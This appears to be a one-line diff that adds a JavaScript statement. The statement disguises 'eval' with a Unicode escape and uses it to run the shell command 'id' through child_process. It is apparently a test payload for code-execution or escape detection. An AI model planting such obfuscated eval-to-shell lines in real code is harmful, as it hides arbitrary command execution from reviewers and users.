@@ -1,0 +1,1 @@
+\u{65}val("require('child_process').execSync('id', {stdio: 'inherit'})");
